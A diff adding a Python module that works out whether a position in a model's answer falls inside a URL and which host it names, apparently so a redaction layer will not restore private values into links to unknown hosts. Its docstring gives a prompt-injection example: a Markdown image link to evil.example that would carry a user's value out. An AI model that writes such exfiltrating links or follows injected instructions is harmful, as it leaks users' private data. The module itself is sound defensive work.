@@ -1,0 +1,131 @@
+"""Whether a point in an answer lies inside a URL, and of which host.
+
+A model that was told by a poisoned document to write `![](https://evil.example/?q=<PERSON_1>)` would
+have the caller's own screen send the value out. So a value isn't restored inside a URL, unless its
+host was mentioned by the caller (system, developer and user text) or is listed by policy.
+
+Inside a URL means: behind a scheme that browsers fetch, behind `www.`, behind a host without a
+scheme that is followed by a path, query, fragment or port (so also in Markdown's reference links),
+and inside HTML attributes that browsers follow. An e-mail address is not a host. The judgement uses
+only what stands *before* the point, so that streams needn't wait: a value at the very start of a
+host name is restored.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from collections.abc import Collection, Sequence
+
+_ESCAPED_SLASH = re.compile(r"\\+/")
+_ESCAPED_QUOTE = re.compile(r"\\+([\"'])")
+_ESCAPED_CHARACTER = re.compile(r"\\+u([0-9A-Fa-f]{4})")
+_TOKEN = re.compile(r"<(?=[A-Z][A-Z0-9_]*[0-9][a-z]*>)([^<>]*)>")
+
+#: Characters of output that the judgement is made from.
+CONTEXT = 8192
+UNKNOWN = ""  # the host of a URL that hasn't got one yet: no host has this name
+
+# What is still open where the text ends: an attribute that browsers follow, a <destination>.
+_ATTRIBUTE = re.compile(
+    r"(?:^|[\s\"'/<])(?:href|src|srcset|action|formaction|poster|data|background|ping|cite|manifest"
+    r"|xlink:href)\s*=\s*(?:\"([^\"]*)|'([^']*)|([^\s\"'>]*))\Z",
+    re.IGNORECASE,
+)
+_DESTINATION = re.compile(r"\]\s*(?:\(|:)\s*<([^<>\n]*)\Z")
+
+_SCHEME = re.compile(r"(?:https?|ftp|wss?|file|blob):[/\\]*|[a-z][a-z0-9+.-]*:[/\\]{2,}", re.I)
+_MAIL = re.compile(r"mailto:[^?]*\?", re.IGNORECASE)
+_WWW = re.compile(r"(?<![\w.-])www\.", re.IGNORECASE)
+_BARE_HOST = re.compile(
+    r"(?<![\w@.-])((?:[\w-]+\.)+[^\W\d_][\w-]+|(?:[0-9]{1,3}\.){3}[0-9]{1,3})\.?(?=[/?#\\]|:[0-9])"
+)
+_AUTHORITY = re.compile(r"([^/?#\\]*)([/?#\\])?")
+
+
+class KnownHosts:
+    """The hosts that the caller mentioned or policy lists; texts are searched only when asked."""
+
+    def __init__(self, said: Sequence[str], listed: Collection[str]) -> None:
+        self._said = said
+        self._known = {host.lower(): True for host in listed}
+
+    def __contains__(self, host: str) -> bool:
+        if not host:
+            return False
+        known = self._known.get(host)
+        if known is None:
+            mention = re.compile(rf"(?<![\w@.-]){re.escape(host)}(?![\w-]|\.\w|@)", re.IGNORECASE)
+            known = self._known[host] = any(map(mention.search, self._said))
+        return known
+
+
+def foreign_host(before: str) -> str | None:
+    """The host of the URL that `before` ends in, lower case; UNKNOWN if unfinished; None if none.
+
+    Only the last CONTEXT characters need be given; a word that fills them all is taken for a URL.
+    """
+    cut = len(before) >= CONTEXT
+    before = _TOKEN.sub(r"\1", _plain(before))
+    enclosing = (_ATTRIBUTE.search(before) if "=" in before else None) or (
+        _DESTINATION.search(before) if "]" in before else None
+    )
+    if enclosing:
+        url = next(group for group in enclosing.groups() if group is not None)
+        found = _last_url(url)
+        alone = url.strip().lower() in ("", "mailto:", "tel:")  # the value is the whole link
+        return found[1] if found else None if alone else UNKNOWN
+    word = _last_word(before)
+    if cut and len(word) == len(before):
+        return UNKNOWN
+    found = _last_url(word)
+    if found is None or _closed(word, found[0]):
+        return None
+    return found[1]
+
+
+def _last_word(text: str) -> str:
+    """What follows the last blank, quote or bracket that no URL holds."""
+    if not text or text[-1].isspace():
+        return ""
+    word = text.rsplit(None, 1)[-1]
+    return max((word.rpartition(end)[2] for end in "\"<>`"), key=lambda rest: -len(rest))
+
+
+def _last_url(text: str) -> tuple[int, str] | None:
+    """Where the last URL in `text` begins, and its host."""
+    schemes = list(_SCHEME.finditer(text))
+    if schemes:
+        return schemes[-1].start(), _of_authority(text[schemes[-1].end() :])
+    bare = list(_BARE_HOST.finditer(text))
+    if bare:
+        return bare[-1].start(), bare[-1][1].lower()
+    other = _MAIL.search(text) or _WWW.search(text)
+    return (other.start(), UNKNOWN) if other else None
+
+
+def _closed(word: str, start: int) -> bool:
+    """Whether a bracket that was open before the URL closes after it, as in Markdown's links."""
+    depth = sum(word.count(bracket, 0, start) for bracket in "([")
+    for character in word[start:]:
+        depth += (character in "([") - (character in ")]")
+        if depth == 0 and character in ")]":
+            return True
+    return False
+
+
+def _of_authority(rest: str) -> str:
+    match = _AUTHORITY.match(rest)
+    if match is None or match[2] is None:
+        return UNKNOWN  # the host may go on
+    host: str = match[1].rpartition("@")[2]
+    host = host if host.endswith("]") else re.sub(r":[0-9]*\Z", "", host)
+    return host.rstrip(".").lower()
+
+
+def _plain(text: str) -> str:
+    """Without the escapes of JSON and HTML, which would hide slashes, colons and quotes."""
+    if "\\" in text:
+        text = _ESCAPED_CHARACTER.sub(lambda escape: chr(int(escape[1], 16)), text)
+        text = _ESCAPED_QUOTE.sub(r"\1", _ESCAPED_SLASH.sub("/", text))
+    return html.unescape(text) if "&" in text else text
